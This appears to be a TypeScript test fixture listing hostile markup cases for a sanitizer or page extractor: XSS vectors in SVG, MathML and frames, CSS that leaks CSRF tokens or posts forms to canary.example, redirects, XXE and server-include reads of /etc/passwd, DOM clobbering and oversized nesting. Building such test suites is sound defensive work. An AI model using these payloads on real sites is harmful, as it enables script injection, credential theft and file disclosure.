/** Drawings, styles, and markup that loads, leads away, sends, covers or breaks a page. */
import { around, each, type HostileCase, hostile, STORY } from './case.ts';

const deep = (tag: string, n: number): string => `<${tag}>`.repeat(n);

export const MARKUP: readonly HostileCase[] = [
  ...each({
    'a drawing that runs': '<svg onload=alert(1)>',
    'a drawing with a script': '<svg><script>alert(1)</script></svg>',
    'a drawing with a coded script': '<svg><script>&#97;lert(1)</script></svg>',
    'a drawing that moves an address':
      '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
    'a drawing that sets a handler': '<svg><set attributeName=onmouseover to=alert(1)></svg>',
    'a drawing that uses another':
      '<svg><use href="//canary.example/x.svg#a"/><image href="//canary.example/i.png"/></svg>',
    'a drawing with a page inside':
      '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
    'a drawing whose style breaks out': '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    'a formula that links':
      '<math><mi xlink:href="javascript:alert(1)">x</mi><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>',
    'a formula that breaks out':
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    'a style': '<style>header,nav,main{display:none!important}</style>',
    'a style that loads':
      '<style>@import "//canary.example/x.css";body{background:url(//canary.example/b.png)}</style>',
    'a style that spies': '<style>input[name=csrf][value^=a]{background:url(//canary.example/a)}</style>',
    'a style out of an attribute': '" style="position:fixed;inset:0;z-index:99999;background:url(//canary.example/a)',
    'a style in an attribute':
      '<p style="position:fixed;inset:0;z-index:2147483647;background:red">Everything is over</p>',
    'a style sheet from elsewhere': '<link rel=stylesheet href=//canary.example/x.css>',
    'words that close a style': '</style><script>alert(1)</script>',
    'words of a style': '}*{display:none!important}@font-face{font-family:x;src:url(//canary.example/f)}',
    'links that look up names':
      '<link rel=dns-prefetch href=//canary.example><link rel=preconnect href=//canary.example><link rel=prefetch href=//canary.example/x><link rel=preload as=script href=//canary.example/x.js>',
    'a manifest and an icon':
      '<link rel=manifest href=//canary.example/m.json><link rel=icon href=//canary.example/i.ico>',
    'a refresh': '<meta http-equiv=refresh content="0;url=//canary.example/">',
    'a refresh that is a script': '<meta http-equiv=refresh content="0;javascript:alert(1)">',
    'a policy of its own': `<meta http-equiv=Content-Security-Policy content="default-src 'none'; style-src 'none'">`,
    'a cookie of its own': '<meta http-equiv=Set-Cookie content="session=stolen">',
    'another base': '<base href=//canary.example/ target=_blank>',
    'a form to elsewhere':
      '<form action=//canary.example/ method=post><input name=q value=x autofocus><button>Search</button></form>',
    'a form to the app':
      '<form action=/review/correct method=post><input name=id value=x><button autofocus>Confirm</button></form>',
    'a field that joins a form of the app':
      '<input form=add name=csrf value=x><button formaction=//canary.example/ type=submit>Go</button>',
    'the end of a form': '</form></label></button></fieldset><input name=csrf value=stolen>',
    'a frame': '<iframe src=//canary.example/ onload=alert(1)></iframe>',
    'a frame with a page inside': '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    'a frame with a script': '<iframe src=javascript:parent.alert(1)></iframe>',
    'frames of another age': '<frameset onload=alert(1)><frame src=//canary.example/></frameset>',
    'objects and embeds':
      '<object data=//canary.example/x.swf></object><embed src=javascript:alert(1)><applet code=x></applet>',
    'a portal, a fence and a dialog':
      '<portal src=//canary.example/></portal><fencedframe src=//canary.example/></fencedframe><dialog open>Log in</dialog>',
    pictures:
      '<img src=//canary.example/i.png srcset="//canary.example/2 2x"><picture><source srcset=//canary.example/s></picture><input type=image src=//canary.example/b>',
    'a picture without quotes that never end': `<img src='//canary.example/?`,
    'sound, film and words below':
      '<audio src=//canary.example/a autoplay></audio><video poster=//canary.example/p><track default src=//canary.example/t></video>',
    'a background': '<table background=//canary.example/b><body background=//canary.example/c>',
    'names that hide what scripts call':
      '<form id=main name=csrf><input name=querySelector><img name=body><a id=defaultView><a id=defaultView name=x></form>',
    'a second heading, main and footer':
      '</main></body></html><header>Log in again</header><main id=main><h1>Another page</h1></main><footer>x</footer>',
    'a doctype, a head and a body':
      '<!doctype html><html lang=xx dir=rtl><head><title>x</title></head><body dir=rtl class=x>',
    'plain text to the end': '<plaintext>',
    'text that swallows the rest': '<xmp><listing><noembed><noframes><textarea>',
    'a template that swallows the rest': '<template><select><option><table><caption><colgroup>',
    'a table inside out': '</table></td></tr><table><p>x</table><tr><td></table>',
    'elements that do not close': '<b><i><u><s><font size=7 color=red><center><blink><big><nobr><a href=/><h1>',
    'a comment that does not close': '<!-- ',
    'a declaration that does not close':
      '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"> ]>&e;<?xml-stylesheet href="//canary.example/x.xsl"?><![CDATA[',
    'a quotation mark that does not close': '<a href="',
    'null bytes': '<scr\u0000ipt>alert(1)</scr\u0000ipt><img src=x on\u0000error=alert(1)>\u0000',
    'entities without an end':
      '&lt;script&gt;alert(1)&lt;/script&gt; &#0; &#x110000; &#xD800; &ampampamp &nosuch; &#99999999999999;',
    'entities twice': '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
    'includes of a server':
      '<!--#include virtual="/etc/passwd"--><esi:include src="//canary.example"/><?php phpinfo() ?><% x %>',
    'slots, parts and ids of the app':
      '<span id=main></span><span id=site-search></span><span class="masthead skip nav foot hidden"></span>',
  }),
  hostile('ten thousand nested elements', deep('div', 40), { page: around(deep('div', 10_000)) }),
  hostile('ten thousand nested inline elements', deep('b', 40), {
    page: around(deep('b', 5000) + deep('a href=x', 5000)),
  }),
  hostile('ten thousand attributes', '<p a=1 b=2 c=3>', {
    page: around(`<p ${Array.from({ length: 10_000 }, (_, i) => `on${i}="alert(1)"`).join(' ')}>x</p>`),
  }),
  hostile('an attribute of a megabyte', `<p title="${'x'.repeat(3000)}">`, {
    page: around(`<p title="${'<script>alert(1)</script>'.repeat(40_000)}">x</p>`),
  }),
  hostile('layers over everything', '<p style="position:fixed;inset:0">x</p>', {
    page: around('<div style="position:fixed;inset:0;z-index:9999999"><a href="//canary.example">Read on</a></div>'),
  }),
  hostile('words that are not shown', '<p hidden>The mayor said nothing</p>', {
    page: around(
      '',
      `<div style="display:none"><p>Cy Moor said nobody sees this.</p></div><p hidden>${STORY}</p><noscript>${STORY}</noscript>`,
    ),
  }),
  hostile('an article in a template', '<template><p>x</p></template>', {
    page: `<template>${around('')}</template>${around('')}`,
  }),
];
